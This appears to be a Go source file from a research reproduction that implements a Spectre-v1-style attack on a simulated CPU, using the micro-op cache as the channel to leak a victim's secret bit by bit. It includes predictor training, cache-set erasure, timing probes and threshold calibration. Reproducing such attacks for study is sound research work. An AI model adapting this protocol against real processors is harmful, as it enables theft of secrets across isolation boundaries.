// Package transient implements the §VI transient-execution attacks:
//
//   - Variant 1: a Spectre-v1-style bounds-check bypass whose disclosure
//     primitive is the micro-op cache — the transiently read secret
//     steers a (squashed) transmitter whose fetch footprint survives the
//     squash.
//   - Variant 2: an authorization-check bypass whose transmitter is a
//     secret-dependent indirect call. The secret is encoded in the
//     indirect branch predictor by legitimate runs; a transient fetch at
//     the predicted target leaks it even under LFENCE, before the call
//     is ever dispatched to execution.
//   - The classic Spectre-v1 baseline transmitting over the LLC with
//     flush+reload, for the Table II comparison.
package transient

import (
	"fmt"

	"deaduops/internal/asm"
	"deaduops/internal/attack"
	"deaduops/internal/codegen"
	"deaduops/internal/cpu"
	"deaduops/internal/isa"
	"deaduops/internal/victim"
)

// Code layout bases.
const (
	victimCode = 0x20000
	gadgetCode = 0x30000
	eraserBase = 0x40000
	senderBase = 0x80000
	zebraBase  = 0xC0000
	maxRun     = 5_000_000
)

// transientGeometry is small enough that one transient traversal fits
// inside the speculation window opened by one flushed load.
func transientGeometry() attack.Geometry { return attack.Geometry{NSets: 2, NWays: 6, FirstSet: 1} }

// Variant1 is the µop-cache Spectre attack. Its disclosure protocol is
// a presence test on the micro-op cache: the attacker erases the probed
// sets with a conflicting tiger, triggers the victim so the transient
// transmitter (re)fills them — or not, per the secret bit — and then
// times one traversal of the transmitter chain itself. A fast traversal
// means the transient fetch happened: the bit was one.
type Variant1 struct {
	c           *cpu.CPU
	lay         victim.Layout
	eraser      *attack.Routine
	th          attack.Threshold
	prog        *asm.Program
	attackEntry uint64
	probeEntry  uint64
	touchEntry  uint64

	// EraseIters/AttackReps/XmitLoops tune the per-bit protocol.
	EraseIters int64
	AttackReps int
	XmitLoops  int64
}

// NewVariant1 assembles the victim library, the attacker gadget, and
// the probing tigers, then calibrates the timing threshold.
func NewVariant1(c *cpu.CPU) (*Variant1, error) {
	lay := victim.DefaultLayout()
	g := transientGeometry()
	eraser, err := attack.Build(attack.Tiger(eraserBase, g, "v1erase"))
	if err != nil {
		return nil, err
	}
	send := attack.FastTiger(senderBase, g, "v1send")
	zeb := attack.Zebra(zebraBase, g, "v1zebra")

	// Victim library and attacker gadget share one image so the
	// gadget's CALL can reference the victim's label.
	// Registers: R1 = index, R2 = 0, R6 = bit index, R7 = transmitter
	// loop count (1 during training so the architectural transmission
	// terminates; larger during attacks so the transient transmission
	// loops until the squash).
	ab := asm.New(victimCode)
	victim.BoundsCheckVictim(ab, lay)
	victim.SecretUse(ab, lay)
	ab.Org(gadgetCode - 0x1000)
	// The victim's own periodic secret use (see victim.SecretUse).
	ab.Label("touch_entry")
	ab.Call("victim_use_secret")
	ab.Halt()
	ab.Org(gadgetCode)
	ab.Label("attack_entry")
	ab.Clflush(isa.R2, int64(lay.ArraySizeAddr))
	ab.Call("victim_function")
	// Architecturally the out-of-bounds call returns -1 and we skip
	// transmission; transiently R0 holds the secret byte and the
	// branch below resolves the other way, steering fetch into the
	// transmitter.
	ab.Cmpi(victim.RegRet, -1)
	ab.Jcc(isa.EQ, "attack_done")
	ab.Mov(isa.R3, victim.RegRet)
	ab.Shr(isa.R3, isa.R6)
	ab.Andi(isa.R3, 1)
	ab.Cmpi(isa.R3, 0)
	ab.Jcc(isa.EQ, "send_zero")
	ab.Jmp(send.EntryLabel())
	ab.Label("send_zero")
	ab.Jmp(zeb.EntryLabel())
	ab.Label("attack_done")
	ab.Halt()

	// The transmitter chains, each looping R7 times through their
	// regions. The loop tails are placed away from the probed sets.
	if err := send.Emit(ab, "one_tail"); err != nil {
		return nil, err
	}
	orgToSet(ab, 24)
	ab.Label("one_tail")
	ab.Subi(isa.R7, 1)
	ab.Cmpi(isa.R7, 0)
	ab.Jcc(isa.NE, send.EntryLabel())
	ab.Halt()
	if err := zeb.Emit(ab, "zero_tail"); err != nil {
		return nil, err
	}
	orgToSet(ab, 26)
	ab.Label("zero_tail")
	ab.Subi(isa.R7, 1)
	ab.Cmpi(isa.R7, 0)
	ab.Jcc(isa.NE, zeb.EntryLabel())
	ab.Halt()
	aprog, err := ab.Build()
	if err != nil {
		return nil, err
	}

	merged, err := asm.Merge(eraser.Prog, aprog)
	if err != nil {
		return nil, err
	}
	c.LoadProgram(merged)

	v := &Variant1{
		c: c, lay: lay, eraser: eraser, prog: merged,
		attackEntry: aprog.MustLabel("attack_entry"),
		touchEntry:  aprog.MustLabel("touch_entry"),
		probeEntry:  aprog.MustLabel(send.EntryLabel()),
		EraseIters:  30,
		AttackReps:  4,
		XmitLoops:   50,
	}
	c.Mem().Write(lay.ArraySizeAddr, 8, lay.ArrayLen)
	v.th, err = calibratePresence("variant-1", v.WriteSecret,
		func() (uint64, error) { return v.leakBitRaw(0, 0) })
	if err != nil {
		return nil, err
	}
	return v, nil
}

// orgToSet advances the builder to the next region mapping to the
// given micro-op cache set.
func orgToSet(b *asm.Builder, set int) {
	pc := b.PC()
	next := pc&^uint64(codegen.WayStride-1) + uint64(set)*codegen.RegionSize
	for next <= pc {
		next += codegen.WayStride
	}
	b.Org(next)
}

// WriteSecret plants the victim's secret.
func (v *Variant1) WriteSecret(secret []byte) {
	v.c.Mem().WriteBytes(v.lay.SecretBase, secret)
}

// Threshold exposes the calibrated probe threshold. For this
// presence-test protocol, HitMean is the one-bit (transmitter present)
// mean and MissMean the zero-bit mean.
func (v *Variant1) Threshold() attack.Threshold { return v.th }

// train calls the victim with in-bounds indices so the bounds check
// predicts the in-bounds path; it also trains the attacker gadget's own
// branches. The public array holds zero bytes, so architectural
// transmissions during training always take the zebra path — they never
// touch the probed sets. (A transient one-bit then mispredicts the bit
// branch and redirects fetch into the tiger, inside the window.)
func (v *Variant1) train(rounds int) error {
	for i := 0; i < rounds; i++ {
		v.c.SetReg(0, isa.R1, int64(i%7))
		v.c.SetReg(0, isa.R2, 0)
		v.c.SetReg(0, isa.R6, 0)
		v.c.SetReg(0, isa.R7, 1)
		if res := v.c.Run(0, v.attackEntry, maxRun); res.TimedOut {
			return fmt.Errorf("transient: training run timed out")
		}
	}
	return nil
}

// probe times one traversal of the transmitter chain: fast if the
// transient transmission installed it, slow if the eraser still owns
// the sets.
func (v *Variant1) probe() (uint64, error) {
	v.c.SetReg(0, isa.R7, 1)
	res := v.c.Run(0, v.probeEntry, maxRun)
	if res.TimedOut {
		return 0, fmt.Errorf("transient: probe timed out")
	}
	return res.Cycles, nil
}

// leakBitRaw runs the per-bit protocol and returns the probe time.
// Training interleaves with the attack repetitions: every misspeculated
// attack call re-trains the bounds check toward the taken (out-of-
// bounds) outcome, so two benign calls precede each malicious one —
// the classic Spectre-v1 cadence.
func (v *Variant1) leakBitRaw(byteIndex, bit int) (uint64, error) {
	if _, err := v.eraser.Run(v.c, 0, v.EraseIters); err != nil {
		return 0, err
	}
	// The victim's own activity keeps the secret line cache-resident
	// (the conventional Spectre assumption; without it the transient
	// dependent branch cannot resolve inside the window).
	v.c.SetReg(0, isa.R1, int64(byteIndex))
	if res := v.c.Run(0, v.touchEntry, maxRun); res.TimedOut {
		return 0, fmt.Errorf("transient: victim secret-use timed out")
	}
	idx := int64(v.lay.SecretBase-v.lay.ArrayBase) + int64(byteIndex)
	for r := 0; r < v.AttackReps; r++ {
		if err := v.train(2); err != nil {
			return 0, err
		}
		v.c.SetReg(0, isa.R1, idx)
		v.c.SetReg(0, isa.R2, 0)
		v.c.SetReg(0, isa.R6, int64(bit))
		v.c.SetReg(0, isa.R7, v.XmitLoops)
		if res := v.c.Run(0, v.attackEntry, maxRun); res.TimedOut {
			return 0, fmt.Errorf("transient: attack run timed out")
		}
	}
	return v.probe()
}

// calibratePresence calibrates a presence-test probe with a known
// secret byte: planted as 0xFF the transmitter runs and the probe hits,
// planted as 0x00 it does not and the probe misses. Two warm-up pairs
// absorb the first windows' cold instruction-cache misses and predictor
// training; six recorded pairs follow. Any positive separation is
// accepted: a one-traversal probe has no ratio floor to meet.
func calibratePresence(name string, write func([]byte), leak func() (uint64, error)) (th attack.Threshold, err error) {
	plant := func(b byte) func() (uint64, error) {
		return func() (uint64, error) {
			write([]byte{b})
			return leak()
		}
	}
	r, err := attack.MeasurePairs(2, 6, 1, plant(0xFF), plant(0x00))
	if err != nil {
		return th, err
	}
	th = r.Stats()
	if th.MissMean <= th.HitMean {
		return th, fmt.Errorf("transient: no %s signal (%s)", name, th.Spread())
	}
	return th, nil
}

// LeakBit transiently reads bit `bit` of secret byte `byteIndex`.
func (v *Variant1) LeakBit(byteIndex, bit int) (bool, error) {
	cycles, err := v.leakBitRaw(byteIndex, bit)
	if err != nil {
		return false, err
	}
	// A fast probe means the transmitter chain is present: bit was one.
	return v.th.Hit(cycles), nil
}

// Leak recovers nBytes of the victim's secret bit-by-bit.
func (v *Variant1) Leak(nBytes int) ([]byte, Stats, error) {
	out := make([]byte, nBytes)
	var st Stats
	st.begin(v.c)
	for i := 0; i < nBytes; i++ {
		for k := 0; k < 8; k++ {
			bit, err := v.LeakBit(i, k)
			if err != nil {
				return nil, st, err
			}
			if bit {
				out[i] |= 1 << k
			}
			st.Bits++
		}
	}
	st.end(v.c)
	return out, st, nil
}
